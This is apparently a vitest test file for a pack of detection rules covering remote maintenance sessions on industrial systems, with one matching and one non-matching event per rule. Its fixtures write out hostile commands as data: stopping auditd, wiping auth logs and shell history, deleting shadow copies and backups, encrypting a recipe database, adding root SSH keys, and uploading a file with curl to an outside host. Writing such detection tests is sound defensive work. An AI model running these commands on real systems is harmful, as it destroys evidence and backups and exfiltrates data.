// The default pack: every rule loads cleanly, is documented and tagged for ATT&CK Enterprise and
// ATT&CK for ICS, and has an event that must match and one that must not.
import { describe, expect, it } from 'vitest';
import { readRuleFiles } from '../engine/files.ts';
import { loadRules, RuleEngine, type Alert } from '../engine/index.ts';

const loaded = loadRules(readRuleFiles([new URL('./', import.meta.url).pathname]).sources);

type Fields = Record<string, unknown>;
interface Case {
  category: string;
  product?: string;
  match: Fields;
  miss: Fields;
}

const proc = (Image: string, CommandLine: string, extra: Fields = {}): Fields => ({ Image, CommandLine, ProcessId: 4242, ParentProcessId: 4000, User: 'vendor1', ...extra });
const inSession = { SessionId: 'ssh-abc' };
/** A uid change as the connector reports it: from a real user to another; a setuid program's effective user is root before. */
const uidChange = (from: string, to: string, extra: Fields = {}): Fields => ({
  ProcessId: 4242, ParentProcessId: 4000, Image: '/usr/bin/sudo', CommandLine: 'sudo -i', User: to, RealUser: to, PreviousUser: 'root', PreviousRealUser: from, ...extra,
});

const cases: Record<string, Case> = {
  'Remote Session Outside a Maintenance Window': { category: 'remote_session', match: { Action: 'start', InMaintenanceWindow: false }, miss: { Action: 'start', InMaintenanceWindow: true } },
  'Remote Session From an Unapproved Source': { category: 'remote_session', match: { Action: 'start', SourceApproved: false }, miss: { Action: 'start', SourceApproved: true } },
  'Remote Session by an Unapproved Account': { category: 'remote_session', match: { Action: 'start', AccountApproved: false }, miss: { Action: 'end', AccountApproved: false } },
  'Remote Session Without a Valid Change Ticket': { category: 'remote_session', match: { Action: 'start', TicketRequired: true, TicketValid: false }, miss: { Action: 'start', TicketRequired: false, TicketValid: true } },
  'Remote Session Longer Than Allowed': { category: 'remote_session', match: { Action: 'end', ExceedsMaxDuration: true, DurationSeconds: 20_000 }, miss: { Action: 'end', ExceedsMaxDuration: false } },
  'Unapproved Remote-Access Tool Started': { category: 'process_creation', match: proc('/opt/anydesk/anydesk', 'anydesk --service', { Tool: 'anydesk', ToolApproved: false }), miss: proc('/usr/sbin/sshd', 'sshd -D', { Tool: 'sshd', ToolApproved: true }) },
  'Privilege Escalation Inside a Remote Session': { category: 'process_creation', match: proc('/usr/bin/sudo', 'sudo -i', inSession), miss: proc('/usr/bin/sudo', 'sudo -i') },
  'Security or Logging Stopped': { category: 'process_creation', match: proc('/usr/bin/systemctl', 'systemctl stop auditd'), miss: proc('/usr/bin/systemctl', 'systemctl status auditd') },
  'Log or Shell History Wiped': { category: 'process_creation', match: proc('/usr/bin/rm', 'rm -f /var/log/auth.log'), miss: proc('/usr/bin/rm', 'rm -f /tmp/cache.tmp') },
  'Backup or Shadow Copy Deletion': { category: 'process_creation', match: proc('/usr/bin/rm', 'rm -rf /var/backups/plc'), miss: proc('/usr/bin/rm', 'rm -rf /tmp/build') },
  'Shadow Copy or Backup Catalog Deletion - Windows': { category: 'process_creation', product: 'windows', match: proc('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'), miss: proc('C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe list shadows') },
  'Mass Encryption or Renaming Tool Run': { category: 'process_creation', match: proc('/usr/bin/openssl', 'openssl enc -aes-256-cbc -in recipe.db -out recipe.db.enc'), miss: proc('/usr/bin/openssl', 'openssl x509 -in cert.pem -noout -text') },
  'Account or SSH Key Change During a Remote Session': { category: 'process_creation', match: proc('/usr/bin/tee', 'tee -a /root/.ssh/authorized_keys', inSession), miss: proc('/usr/bin/tee', 'tee -a /root/.ssh/authorized_keys') },
  'Removable Media During a Remote Session': { category: 'removable_media', match: { Action: 'mount', Device: '/dev/sdb1', DuringRemoteSession: true }, miss: { Action: 'mount', Device: '/dev/sdb1' } },
  'Interactive Shell Started by a Remote-Access Tool': { category: 'process_creation', match: proc('/usr/bin/bash', 'bash -i', { ParentImage: '/opt/anydesk/anydesk' }), miss: proc('/usr/bin/bash', 'bash -i', { ParentImage: '/usr/sbin/sshd' }) },
  'Recorded Shell Refused by the O&M Policy': { category: 'remote_session', match: { Action: 'refused', Tool: 'omwatch-shell', Reason: 'a change ticket is required' }, miss: { Action: 'start', Tool: 'omwatch-shell' } },
  'Command Reporting Turned Off in a Recorded Shell': { category: 'shell_command', match: { CommandLine: 'trap - DEBUG; history -c', SessionId: 'shell-1', User: 'vendor1' }, miss: { CommandLine: 'systemctl status plc-gateway', SessionId: 'shell-1', User: 'vendor1' } },
  'Process Took Root Inside a Remote Session': { category: 'process_privilege_change', match: uidChange('vendor1', 'root', inSession), miss: uidChange('root', 'vendor1', inSession) },
  'Root Taken Without a Setuid Program': { category: 'process_privilege_change', match: uidChange('vendor1', 'root', { PreviousUser: 'vendor1' }), miss: uidChange('vendor1', 'root') },
  'Data Transfer Tool Inside a Remote Session': { category: 'process_creation', match: proc('/usr/bin/curl', 'curl -T /opt/hmi/recipes.db https://example.net/up', inSession), miss: proc('/usr/bin/curl', 'curl -s http://127.0.0.1:8080/health', inSession) },
};

function run(engine: RuleEngine, category: string, product: string, fields: Fields, id = 'e1', time = '2026-11-28T10:00:00Z'): readonly Alert[] {
  return engine.evaluate({ id, time, category, product, fields });
}

describe('the default pack', () => {
  it('loads every rule without an error or a warning', () => {
    expect(loaded.errors).toEqual([]);
    expect(loaded.warnings).toEqual([]);
    expect(loaded.rules.length + loaded.correlations.length).toBeGreaterThanOrEqual(17);
  });

  it('documents and tags each alerting rule for ATT&CK Enterprise and ATT&CK for ICS', () => {
    for (const rule of [...loaded.rules, ...loaded.correlations]) {
      expect(rule.author, rule.title).toBe('omwatch');
      expect(rule.description?.length, rule.title).toBeGreaterThan(40);
      if (rule.level === 'informational') continue; // building blocks of correlations
      expect(rule.falsepositives?.length, rule.title).toBeGreaterThan(0);
      expect(rule.tags.some((t) => /^attack\.t1\d{3}/.test(t)), `${rule.title}: Enterprise technique`).toBe(true);
      expect(rule.tags.some((t) => /^attack\.t08\d\d$/.test(t)), `${rule.title}: ICS technique`).toBe(true);
    }
  });

  it('has a case for every alerting rule', () => {
    const alerting = [...loaded.rules, ...loaded.correlations].filter((r) => r.level !== 'informational').map((r) => r.title).sort();
    expect([...Object.keys(cases), 'Repeated Connection Attempts Followed by a Remote Session'].sort()).toEqual(alerting);
  });

  it.each(Object.entries(cases))('%s: matches its event and not the other', (title, c) => {
    const engine = new RuleEngine(loaded);
    const product = c.product ?? 'linux';
    expect(run(engine, c.category, product, c.match).map((a) => a.rule.title)).toContain(title);
    expect(run(engine, c.category, product, c.miss).map((a) => a.rule.title)).not.toContain(title);
  });

  it('Repeated Connection Attempts Followed by a Remote Session: a burst then a session from that source, not from another', () => {
    const engine = new RuleEngine(loaded);
    const at = (s: number) => new Date(Date.UTC(2026, 10, 28, 10, 0, s)).toISOString();
    for (let i = 0; i < 5; i++) {
      expect(run(engine, 'network_connection', 'linux', { Initiated: false, Tool: 'sshd', SourceIp: '203.0.113.9', SourcePort: 50_000 + i, DestinationPort: 22, Protocol: 'tcp', DestinationIp: '10.0.0.7' }, `c${i}`, at(i))).toEqual([]);
    }
    expect(run(engine, 'remote_session', 'linux', { Action: 'start', SourceIp: '198.51.100.1' }, 's0', at(10))).toEqual([]);
    const alerts = run(engine, 'remote_session', 'linux', { Action: 'start', SourceIp: '203.0.113.9' }, 's1', at(20));
    expect(alerts.map((a) => a.rule.title)).toEqual(['Repeated Connection Attempts Followed by a Remote Session']);
    expect(alerts[0]!.eventIds).toEqual(expect.arrayContaining(['c0', 'c4', 's1']));
  });
});
